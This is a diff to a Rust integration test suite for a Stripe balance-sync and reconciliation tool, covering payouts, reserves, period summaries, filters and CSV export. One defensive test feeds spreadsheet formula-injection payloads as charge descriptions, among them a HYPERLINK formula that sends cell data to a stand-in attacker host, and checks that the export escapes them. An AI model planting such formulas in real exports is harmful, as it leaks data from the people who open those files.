@@ -3,8 +3,8 @@
 //! process is killed, and honest about a balance that does not reconcile.
 
 use desk_core::balances::{
-    export_csv, fetch_balance, sync, BalanceStore, Bucket, Cancel, Filter, PageRequest, Sort,
-    SortColumn, SyncOptions, SyncOutcome, TimeRange,
+    export_csv, fetch_balance, sync, BalanceStore, Bucket, Cancel, Filter, PageRequest,
+    PayoutState, Sort, SortColumn, SyncOptions, SyncOutcome, TimeRange, PAYOUT_PREVIEW,
 };
 use desk_core::money::{display_exponent, to_decimal};
 use desk_core::stripe::{Auth, ClientConfig, StripeClient};
@@ -18,7 +18,7 @@ use std::process::{Command, Stdio};
 use std::str::FromStr;
 use std::sync::Arc;
 use std::time::Duration;
-use stripe_sim::{Failure, KeyAccess, SeedSpec, SimConfig, Simulator};
+use stripe_sim::{Charge, Failure, KeyAccess, SeedSpec, SimConfig, Simulator};
 
 const KEY: &str = "sk_test_51BalancesTestKey000000000005678";
 const ACCOUNT: &str = "acct_1BalanceShop";
@@ -192,9 +192,12 @@ async fn the_copy_is_exact_in_every_currency() {
     // Period summary: starting balance, activity by group, ending balance.
     let (from, to) = (now - 200 * 86_400, now - 100 * 86_400);
     let summaries = store
-        .period_summary(TimeRange {
-            from: Some(from),
-            to: Some(to),
+        .period_summary(&Filter {
+            created: TimeRange {
+                from: Some(from),
+                to: Some(to),
+            },
+            ..Filter::default()
         })
         .unwrap();
     for s in &summaries {
@@ -205,13 +208,18 @@ async fn the_copy_is_exact_in_every_currency() {
                 .map(|t| i(t, "net"))
                 .sum()
         };
-        assert_eq!(s.starting_balance, of(&|t| i(t, "created") < from));
-        assert_eq!(s.ending_balance, of(&|t| i(t, "created") < to));
-        let activity: i64 = s.activity.iter().map(|a| a.net).sum();
-        assert_eq!(s.starting_balance + activity, s.ending_balance);
-        let payouts = s.activity.iter().find(|a| a.group == "payouts").unwrap();
+        assert_eq!(s.starting_balance, Some(of(&|t| i(t, "created") < from)));
+        assert_eq!(s.ending_balance, Some(of(&|t| i(t, "created") < to)));
+        let activity: i64 = s.activity.iter().map(|a| a.sums.net).sum();
+        assert_eq!(activity, s.total.net);
         assert_eq!(
-            payouts.net,
+            s.starting_balance.unwrap() + activity,
+            s.ending_balance.unwrap()
+        );
+        let payouts = s.activity.iter().find(|a| a.category == "payout").unwrap();
+        assert_eq!(payouts.label, "Payouts");
+        assert_eq!(
+            payouts.sums.net,
             of(&|t| t["type"] == "payout" && (from..to).contains(&i(t, "created")))
         );
     }
@@ -311,7 +319,7 @@ async fn the_copy_is_exact_in_every_currency() {
     for l in &rec.lines {
         assert_eq!(
             l.difference,
-            if l.currency == "kwd" { -3_450 } else { 0 },
+            Some(if l.currency == "kwd" { -3_450 } else { 0 }),
             "{l:?}"
         );
     }
@@ -751,4 +759,594 @@ async fn the_desk_syncs_queries_reconciles_exports_and_deletes_a_copy() {
     assert!(desk.balances_has_copy(&id).unwrap());
     desk.balances_delete_copy(&id).unwrap();
     assert!(!path.exists());
+}
+
+fn synced_at(path: &Path) -> i64 {
+    rusqlite::Connection::open(path)
+        .unwrap()
+        .query_row(
+            "SELECT value FROM meta WHERE key = 'last_synced_at'",
+            [],
+            |r| r.get::<_, String>(0),
+        )
+        .unwrap()
+        .parse()
+        .unwrap()
+}
+
+/// Issue 15.2: a copy with no rows resumes from its last sync, not from now.
+#[tokio::test]
+async fn nothing_is_missed_after_an_empty_first_sync() {
+    let sim = sim_with(0).await;
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("empty.sqlite3");
+    let store = Arc::new(BalanceStore::open(&path).unwrap());
+    assert!(sync_all(&sim, &store).await.completed);
+    assert_eq!(store.stats().unwrap().transactions, 0);
+    drop(store);
+    // That first sync was two hours ago: say so in the copy, as time would.
+    let two_hours_ago = synced_at(&path) - 2 * 3600;
+    rusqlite::Connection::open(&path)
+        .unwrap()
+        .execute(
+            "UPDATE meta SET value = ?1 WHERE key = 'last_synced_at'",
+            [two_hours_ago.to_string()],
+        )
+        .unwrap();
+    // A charge an hour ago: after that sync, before this one.
+    let id = sim.add_charge(
+        ACCOUNT,
+        Charge {
+            currency: "usd".into(),
+            amount: 5_000,
+            created: sim.now() - 3600,
+            description: "Payment from Olivia Smith".into(),
+        },
+    );
+    let store = Arc::new(BalanceStore::open(&path).unwrap());
+    assert!(sync_all(&sim, &store).await.completed);
+    assert_eq!(store_ids(&store), vec![id]);
+}
+
+/// Issue 15.3: a manual payout cannot be listed by Stripe's `payout` filter
+/// ("for automatic Stripe payouts only"); the sync goes on without it.
+#[tokio::test]
+async fn a_manual_payout_does_not_stop_the_sync() {
+    let sim = sim_with(1_500).await;
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("m.sqlite3")).unwrap());
+    sync_all(&sim, &store).await;
+    let manual = sim.add_manual_payout(ACCOUNT, "usd", 10_000);
+    for manual_seen in [1, 0] {
+        let outcome = sync(
+            &client(&sim.base_url()),
+            &auth(),
+            store.clone(),
+            &fast_options(),
+            &Cancel::new(),
+            &|_| {},
+        )
+        .await
+        .expect("a manual payout never makes a sync fail");
+        assert!(outcome.completed);
+        // Recorded once: a later sync does not ask about it again.
+        assert_eq!(outcome.payouts_manual, manual_seen);
+    }
+    assert_identical(&sim, &store);
+    let d = store.payout_detail(&manual).unwrap();
+    assert_eq!(d.payout_amount, Some(10_000));
+    assert_eq!(d.state, PayoutState::Manual);
+    assert_eq!((d.count, d.matches), (0, false));
+    // Stripe was never asked to list it by the filter it refuses.
+    let asked = sim
+        .requests()
+        .iter()
+        .filter(|r| r.query.contains(&format!("payout={manual}")))
+        .count();
+    assert_eq!(asked, 0);
+}
+
+/// Issue 15.3: an automatic payout is linked once Stripe has reconciled it,
+/// not while it is `in_progress` (the list is not complete then).
+#[tokio::test]
+async fn a_payout_still_being_reconciled_is_linked_on_a_later_sync() {
+    let sim = sim_with(1_500).await;
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("r.sqlite3")).unwrap());
+    sync_all(&sim, &store).await;
+    sim.advance_clock(Duration::from_secs(5 * 86_400));
+    let po = sim.add_automatic_payout(ACCOUNT, "usd", false);
+    let outcome = sync_all(&sim, &store).await;
+    assert!(outcome.completed);
+    assert_eq!(outcome.payouts_reconciling, 1);
+    let d = store.payout_detail(&po).unwrap();
+    assert_eq!((d.state, d.count), (PayoutState::Reconciling, 0));
+    sim.complete_payout_reconciliation(ACCOUNT, &po);
+    let outcome = sync_all(&sim, &store).await;
+    assert_eq!(
+        (outcome.payouts_linked, outcome.payouts_reconciling),
+        (1, 0)
+    );
+    let d = store.payout_detail(&po).unwrap();
+    assert!(d.matches, "{po} links what it settled once reconciled");
+    assert_eq!(d.state, PayoutState::Linked);
+    assert_eq!(d.count as usize, sim.payout_settled(ACCOUNT, &po).len());
+    assert!(d.settled_net > 0);
+}
+
+/// Issue 15.3: one payout that fails to link is shown as such; the rest link.
+#[tokio::test]
+async fn a_payout_that_fails_to_link_never_stops_the_rest() {
+    let sim = sim_with(3_000).await;
+    // A payout that settled more than a page (Stripe's 100), so its second page fails.
+    let big = sim
+        .balance_transactions(ACCOUNT)
+        .iter()
+        .filter(|t| t["type"] == "payout")
+        .map(|t| t["source"].as_str().unwrap().to_string())
+        .find(|po| sim.payout_settled(ACCOUNT, po).len() > 100)
+        .expect("a payout that settled more than a page");
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("f.sqlite3")).unwrap());
+    sim.fail_when(
+        &format!("payout={big}&starting_after="),
+        Failure::ServerError500,
+    );
+    let options = SyncOptions {
+        page_attempts: 2,
+        ..fast_options()
+    };
+    let outcome = sync(
+        &client(&sim.base_url()),
+        &auth(),
+        store.clone(),
+        &options,
+        &Cancel::new(),
+        &|_| {},
+    )
+    .await
+    .expect("one payout's failure never fails the sync");
+    assert!(outcome.completed);
+    assert_eq!(outcome.payouts_failed, 1);
+    assert_identical(&sim, &store);
+    let d = store.payout_detail(&big).unwrap();
+    assert!(!d.matches);
+    assert_eq!(d.state, PayoutState::Failed);
+    let message = d.message.unwrap();
+    assert!(message.contains("Stripe"), "{message}");
+    // Linked page by page as the pages came: the first page is there.
+    assert_eq!(d.count, 100);
+    // Every other payout is linked.
+    for po in sim
+        .balance_transactions(ACCOUNT)
+        .iter()
+        .filter(|t| t["type"] == "payout")
+    {
+        let id = po["source"].as_str().unwrap();
+        if id != big {
+            assert!(store.payout_detail(id).unwrap().matches, "{id}");
+        }
+    }
+    // Stripe answers again: the next sync links it.
+    sim.stop_failing();
+    let outcome = sync_all(&sim, &store).await;
+    assert_eq!((outcome.payouts_linked, outcome.payouts_failed), (1, 0));
+    let d = store.payout_detail(&big).unwrap();
+    assert!(d.matches);
+    assert_eq!(d.count as usize, sim.payout_settled(ACCOUNT, &big).len());
+}
+
+/// Issue 15.4: Issuing spend, a reserve and a Connect reserve never make a
+/// healthy account differ from Stripe's balance.
+#[tokio::test]
+async fn issuing_spend_and_reserves_do_not_make_a_healthy_account_differ() {
+    let sim = sim_with(1_500).await;
+    sim.add_issuing_activity(ACCOUNT, "usd", 500_000, 123_456);
+    sim.hold_reserve(ACCOUNT, "usd", 77_700);
+    sim.prefund_refunds_and_disputes(ACCOUNT, "eur", 10_000);
+    sim.set_connect_reserved(ACCOUNT, "usd", 4_200);
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("i.sqlite3")).unwrap());
+    sync_all(&sim, &store).await;
+    assert_identical(&sim, &store);
+    let (balance, at) = fetch_balance(&client(&sim.base_url()), &auth())
+        .await
+        .unwrap();
+    let rec = store.reconcile(&balance, at).unwrap();
+    assert!(rec.matches, "{rec:#?}");
+    let line = |cur: &str, part: &str| {
+        rec.lines
+            .iter()
+            .find(|l| l.currency == cur && l.part == part)
+            .unwrap_or_else(|| panic!("no {cur} {part} line: {rec:#?}"))
+            .clone()
+    };
+    let issuing = line("usd", "issuing");
+    assert_eq!(issuing.in_copy, Some(500_000 - 123_456));
+    assert_eq!(issuing.available, Some(500_000 - 123_456));
+    assert_eq!(issuing.difference, Some(0));
+    // The reserve has no figure in Stripe's balance; the Connect reserve none in the copy.
+    let reserve = line("usd", "risk_reserved");
+    assert_eq!(
+        (reserve.in_copy, reserve.available, reserve.difference),
+        (Some(77_700), None, None)
+    );
+    let connect = line("usd", "connect_reserved");
+    assert_eq!(
+        (connect.in_copy, connect.available, connect.difference),
+        (None, Some(4_200), None)
+    );
+    assert_eq!(
+        line("eur", "refund_and_dispute_prefunding").difference,
+        Some(0)
+    );
+    let payments = line("usd", "payments");
+    assert_eq!(payments.difference, Some(0));
+    assert_eq!(payments.label, "Payments balance");
+    // Each part reads in words.
+    assert_eq!(reserve.label, "Held in reserve by Stripe");
+
+    // A real difference in the payments balance still shows.
+    sim.set_balance_skew(ACCOUNT, "usd", 99);
+    let (balance, at) = fetch_balance(&client(&sim.base_url()), &auth())
+        .await
+        .unwrap();
+    let rec = store.reconcile(&balance, at).unwrap();
+    assert!(!rec.matches);
+    let differing: Vec<_> = rec
+        .lines
+        .iter()
+        .filter(|l| l.difference.is_some_and(|d| d != 0))
+        .collect();
+    assert_eq!(differing.len(), 1);
+    assert_eq!(
+        (differing[0].part.as_str(), differing[0].difference),
+        ("payments", Some(99))
+    );
+}
+
+/// Issue 17.12: before a first sync has finished, nothing is called a difference.
+#[tokio::test]
+async fn before_the_first_sync_nothing_is_a_difference() {
+    let sim = sim_with(500).await;
+    let dir = tempfile::tempdir().unwrap();
+    let store = BalanceStore::open(&dir.path().join("new.sqlite3")).unwrap();
+    let (balance, at) = fetch_balance(&client(&sim.base_url()), &auth())
+        .await
+        .unwrap();
+    let rec = store.reconcile(&balance, at).unwrap();
+    assert!(!rec.synced && !rec.matches);
+    assert!(!rec.lines.is_empty());
+    assert!(rec.lines.iter().all(|l| l.difference.is_none()), "{rec:#?}");
+}
+
+/// Issue 17.4: the period summary and the totals agree for the same
+/// filters, and with an independent sum: charges' gross and fees are
+/// visible, not only their net.
+#[tokio::test]
+async fn the_period_summary_and_the_totals_agree_for_the_same_filters() {
+    let sim = sim_with(4_000).await;
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("s.sqlite3")).unwrap());
+    sync_all(&sim, &store).await;
+    let now = sim.now();
+    let (from, to) = (now - 120 * 86_400, now - 90 * 86_400);
+    let filter = Filter {
+        currencies: vec!["eur".into()],
+        types: vec!["charge".into()],
+        created: TimeRange {
+            from: Some(from),
+            to: Some(to),
+        },
+        ..Filter::default()
+    };
+    let truth = sim.balance_transactions(ACCOUNT);
+    let want = sums(truth.iter().filter(|t| {
+        t["currency"] == "eur" && t["type"] == "charge" && (from..to).contains(&i(t, "created"))
+    }));
+    let (count, amount, fee, net) = want["eur"];
+    assert!(count > 0 && fee > 0);
+    assert_eq!(
+        store_sums(&store, &filter)["eur"],
+        (count, amount, fee, net)
+    );
+    let totals = store.totals(&filter).unwrap();
+    let summary = store.period_summary(&filter).unwrap();
+    assert_eq!(summary.len(), 1, "the summary uses the Currency filter too");
+    let eur = &summary[0];
+    let categories: Vec<&str> = eur.activity.iter().map(|a| a.category.as_str()).collect();
+    assert_eq!(
+        categories,
+        ["charge"],
+        "the summary uses the Type filter too"
+    );
+    let charges = &eur.activity[0];
+    assert_eq!(charges.label, "Charges");
+    // Gross, Stripe's fees and net, each as the totals show them and as summed here.
+    let got = (
+        charges.sums.count,
+        charges.sums.gross,
+        charges.sums.fee,
+        charges.sums.net,
+    );
+    assert_eq!(got, (count, amount, fee, net));
+    let t = &totals[0];
+    assert_eq!((t.count, t.amount, t.fee, t.net), got);
+    assert_eq!(eur.total, charges.sums);
+    // A Type filter: no starting or ending balance (they would not be balances).
+    assert_eq!((eur.starting_balance, eur.ending_balance), (None, None));
+
+    // Dates only: every category, agreeing with the totals, and the
+    // balance before and after the period.
+    let whole = Filter {
+        currencies: vec!["eur".into()],
+        created: filter.created,
+        ..Filter::default()
+    };
+    let summary = store.period_summary(&whole).unwrap();
+    let eur = &summary[0];
+    let t = &store.totals(&whole).unwrap()[0];
+    assert_eq!(
+        (
+            eur.total.count,
+            eur.total.gross,
+            eur.total.fee,
+            eur.total.net
+        ),
+        (t.count, t.amount, t.fee, t.net)
+    );
+    assert!(eur.activity.len() > 1);
+    for a in &eur.activity {
+        let want = sums(truth.iter().filter(|t| {
+            t["currency"] == "eur"
+                && t["reporting_category"] == a.category.as_str()
+                && (from..to).contains(&i(t, "created"))
+        }))["eur"];
+        assert_eq!(
+            (a.sums.count, a.sums.gross, a.sums.fee, a.sums.net),
+            want,
+            "{}",
+            a.category
+        );
+    }
+    let before: i64 = truth
+        .iter()
+        .filter(|t| t["currency"] == "eur" && i(t, "created") < from)
+        .map(|t| i(t, "net"))
+        .sum();
+    assert_eq!(eur.starting_balance, Some(before));
+    assert_eq!(eur.ending_balance, Some(before + eur.total.net));
+}
+
+/// Issue 17.8: the filters offer what the copy holds, in words.
+#[tokio::test]
+async fn the_filters_offer_what_the_copy_holds_in_words() {
+    let sim = sim_with(1_000).await;
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("w.sqlite3")).unwrap());
+    sync_all(&sim, &store).await;
+    let choices = store.filter_choices().unwrap();
+    let truth = sim.balance_transactions(ACCOUNT);
+    let codes = |k: &str| -> BTreeSet<String> {
+        truth
+            .iter()
+            .map(|t| t[k].as_str().unwrap().to_string())
+            .collect()
+    };
+    let values = |c: &[desk_core::balances::Choice]| -> BTreeSet<String> {
+        c.iter().map(|c| c.value.clone()).collect()
+    };
+    assert_eq!(values(&choices.types), codes("type"));
+    assert_eq!(
+        values(&choices.reporting_categories),
+        codes("reporting_category")
+    );
+    assert_eq!(values(&choices.statuses), codes("status"));
+    assert_eq!(
+        choices.currencies.iter().cloned().collect::<BTreeSet<_>>(),
+        codes("currency")
+    );
+    let label = |c: &[desk_core::balances::Choice], v: &str| {
+        c.iter().find(|c| c.value == v).unwrap().label.clone()
+    };
+    assert_eq!(label(&choices.types, "stripe_fee"), "Stripe fee");
+    assert_eq!(label(&choices.reporting_categories, "charge"), "Charges");
+    assert_eq!(label(&choices.statuses, "pending"), "Pending");
+    for c in choices.types.iter().chain(&choices.reporting_categories) {
+        assert!(!c.label.contains('_'), "{c:?}");
+    }
+}
+
+/// Issue 16.3: a description that would run as a spreadsheet formula is
+/// written as text; amounts stay numbers.
+#[tokio::test]
+async fn csv_text_cells_never_run_as_formulas() {
+    let sim = sim_with(0).await;
+    let payloads = [
+        "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Click\")",
+        "+1+2",
+        "-2+3",
+        "@SUM(1,2)",
+        "\tTabbed",
+        "\rReturned",
+        "Plain text",
+    ];
+    for (k, description) in payloads.iter().enumerate() {
+        sim.add_charge(
+            ACCOUNT,
+            Charge {
+                currency: "usd".into(),
+                amount: 1_000 + k as i64,
+                created: sim.now() - 100 - k as i64,
+                description: description.to_string(),
+            },
+        );
+    }
+    // A refund: a negative amount, which must stay a number.
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("c.sqlite3")).unwrap());
+    sync_all(&sim, &store).await;
+    let out = dir.path().join("formulas.csv");
+    export_csv(
+        &store,
+        &Filter::default(),
+        Sort::newest_first(),
+        &out,
+        &Cancel::new(),
+        |_| {},
+    )
+    .unwrap();
+    let text = std::fs::read_to_string(&out).unwrap();
+    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let mut seen = BTreeSet::new();
+    for record in reader.records() {
+        let r = record.unwrap();
+        let description = &r[col("description")];
+        if description == "Plain text" {
+            seen.insert(description.to_string());
+            continue;
+        }
+        assert!(
+            description.starts_with('\''),
+            "{description:?} would run as a formula"
+        );
+        seen.insert(description[1..].to_string());
+        // Numbers stay numbers: no quote before an amount.
+        for money in ["amount", "fee", "net"] {
+            assert!(
+                r[col(money)].parse::<Decimal>().is_ok(),
+                "{}",
+                &r[col(money)]
+            );
+        }
+    }
+    assert_eq!(seen.len(), payloads.len());
+}
+
+/// Issue 15.5: a range is split after its first page too, so when the data
+/// is uneven (most of it recent) the idle workers share the busy range.
+#[tokio::test]
+async fn busy_ranges_are_split_after_their_first_page() {
+    let sim = Simulator::start(SimConfig::bundled()).await.unwrap();
+    sim.add_account(ACCOUNT, "Growing Shop");
+    sim.add_key(KEY, ACCOUNT, KeyAccess::Full);
+    sim.seed_growing_balance_history(ACCOUNT, 6_000, 5);
+    sim.set_latency(Duration::from_millis(20));
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("g.sqlite3")).unwrap());
+    let options = SyncOptions {
+        workers: 4,
+        link_payouts: false,
+        ..fast_options()
+    };
+    sync(
+        &client(&sim.base_url()),
+        &auth(),
+        store.clone(),
+        &options,
+        &Cancel::new(),
+        &|_| {},
+    )
+    .await
+    .unwrap();
+    assert_identical(&sim, &store);
+    // Each range is fetched from its own lower bound (`created[gte]`).
+    let ranges: BTreeSet<String> = sim
+        .requests()
+        .iter()
+        .filter(|r| r.path == "/v1/balance_transactions")
+        .filter_map(|r| {
+            r.query
+                .split('&')
+                .find(|kv| kv.starts_with("created%5Bgte%5D=") || kv.starts_with("created[gte]="))
+                .map(str::to_string)
+        })
+        .collect();
+    assert!(
+        ranges.len() > 8,
+        "{} ranges for 4 workers: the busy range was never split",
+        ranges.len()
+    );
+}
+
+/// Issue 15.5: an account whose record leaves `created` out: the plan starts
+/// at its oldest transaction, found by a few probes, not in 1970.
+#[tokio::test]
+async fn an_account_without_created_is_planned_from_its_oldest_transaction() {
+    let sim = sim_with(3_000).await;
+    sim.omit_account_created(ACCOUNT);
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("n.sqlite3")).unwrap());
+    let outcome = sync_all(&sim, &store).await;
+    assert!(outcome.completed);
+    assert_identical(&sim, &store);
+    let oldest = sim
+        .balance_transactions(ACCOUNT)
+        .iter()
+        .map(|t| i(t, "created"))
+        .min()
+        .unwrap();
+    let lows: Vec<i64> = sim
+        .requests()
+        .iter()
+        .filter(|r| r.path == "/v1/balance_transactions")
+        .filter_map(|r| {
+            r.query.split('&').find_map(|kv| {
+                kv.strip_prefix("created%5Bgte%5D=")
+                    .or_else(|| kv.strip_prefix("created[gte]="))
+                    .and_then(|v| v.parse().ok())
+            })
+        })
+        .collect();
+    let lowest = *lows.iter().min().unwrap();
+    // Nothing missed, and no earlier than twice the oldest's age: the plan
+    // needs no more (a range planned where nothing is costs one request).
+    let age = sim.now() - oldest;
+    assert!(
+        lowest <= oldest && sim.now() - lowest <= 2 * age,
+        "the plan starts at {lowest}, the oldest transaction is at {oldest}"
+    );
+    // A few probes ("the newest before t", one transaction each), not a walk.
+    let probes = sim
+        .requests()
+        .iter()
+        .filter(|r| r.path == "/v1/balance_transactions" && r.query.contains("limit=1&"))
+        .count();
+    assert!((2..=16).contains(&probes), "{probes} probes");
+}
+
+/// Issue 16.9: the payout detail sends the window what it shows, not every row.
+#[tokio::test]
+async fn a_payout_detail_is_bounded() {
+    let sim = sim_with(3_000).await;
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("p.sqlite3")).unwrap());
+    sync_all(&sim, &store).await;
+    let (po, settled) = sim
+        .balance_transactions(ACCOUNT)
+        .iter()
+        .filter(|t| t["type"] == "payout")
+        .map(|t| {
+            let po = t["source"].as_str().unwrap().to_string();
+            let n = sim.payout_settled(ACCOUNT, &po).len();
+            (po, n)
+        })
+        .max_by_key(|p| p.1)
+        .unwrap();
+    assert!(settled > 100);
+    let d = store.payout_detail(&po).unwrap();
+    assert!(d.matches);
+    assert_eq!(d.count as usize, settled);
+    assert!(
+        d.newest.len() <= PAYOUT_PREVIEW as usize,
+        "{} rows sent to show a count",
+        d.newest.len()
+    );
+    // The newest of what it settled.
+    let mut ids = sim.payout_settled(ACCOUNT, &po);
+    ids.truncate(PAYOUT_PREVIEW as usize);
+    let shown: Vec<String> = d.newest.iter().map(|r| r.id.clone()).collect();
+    assert_eq!(shown, ids);
 }
